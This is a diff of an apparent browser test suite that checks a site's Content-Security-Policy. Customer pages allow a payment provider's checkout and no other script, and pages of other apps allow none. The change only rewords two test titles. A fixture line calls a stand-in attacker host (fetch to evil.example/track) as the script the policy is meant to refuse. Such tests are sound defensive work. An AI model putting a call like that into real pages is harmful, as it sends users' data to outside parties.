@@ -29,7 +29,7 @@ const STRANGER = `
   fetch('https://evil.example/track').catch(() => {});
 `;
 
-test('customers’ pages let the provider’s checkout run, and nothing else', async ({ page }) => {
+test('customer pages allow the provider’s checkout and nothing else', async ({ page }) => {
   const seen = await runOn(page, CHECKOUT, 'customer');
   expect(seen.refused).toEqual([]);
   expect(seen.answered.toSorted()).toEqual([
@@ -44,7 +44,7 @@ test('customers’ pages let the provider’s checkout run, and nothing else', a
   expect(stranger.refused.toSorted()).toEqual(['connect-src', 'frame-src', 'script-src-elem']);
 });
 
-test('the other apps’ pages let none of it run', async ({ page }) => {
+test('pages of the other apps allow none of it', async ({ page }) => {
   const { answered, refused } = await runOn(page, CHECKOUT, 'admin');
   expect(answered).toEqual([]);
   expect(refused).toEqual(['script-src-elem']);
